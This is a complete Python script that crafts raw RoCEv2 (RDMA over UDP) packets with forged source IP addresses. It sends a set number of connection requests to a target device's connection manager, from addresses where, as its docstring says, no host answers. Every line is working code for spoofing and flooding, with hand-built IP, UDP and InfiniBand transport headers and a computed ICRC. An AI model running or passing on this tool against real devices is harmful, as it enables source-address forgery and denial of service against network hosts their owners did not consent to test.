"""spoofed_requests.py INTERFACE MAC ADDRESS COUNT: sends COUNT connection requests to a device's connection manager, each from
another address at which there is nobody. All are refused, and nobody takes the refusals."""
import socket
import struct
import sys
import zlib

interface, mac, address, count = sys.argv[1:]
REQUEST = struct.pack(">BBBBHHQHHI", 1, 7, 2, 3, 0, 0, 1, 0x10, 0, 0)  # MAD header; a service that nobody has
line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
line.bind((interface, 0))


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def request(number, source):
    mad = (REQUEST + struct.pack(">I", number)).ljust(256, b"\0")
    headers = struct.pack(">BBHII", 0x64, 0x40, 0xFFFF, 1, number) + struct.pack(">II", 0x80010000, 1)  # BTH and DETH, queue pair 1
    udp = struct.pack(">HHHH", 0xC000, 4791, 8 + len(headers) + len(mad) + 4, 0)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(headers) + len(mad) + 4, 0, 0x4000, 64, 17, 0, source, socket.inet_aton(address))
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    # ICRC (annex A17, 17.3.3): fields that change on the way count as ones.
    masked = bytearray(ip + udp + headers + mad)
    for place in (1, 8, 10, 11, 26, 27, 32):
        masked[place] = 0xFF
    return ip + udp + headers + mad + struct.pack("<I", zlib.crc32(b"\xff" * 8 + masked))


ethernet = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000099") + b"\x08\x00"
network = socket.inet_aton(address)[:3]
for number in range(1, int(count) + 1):
    line.send(ethernet + request(number, network + bytes([number % 200 + 50])))
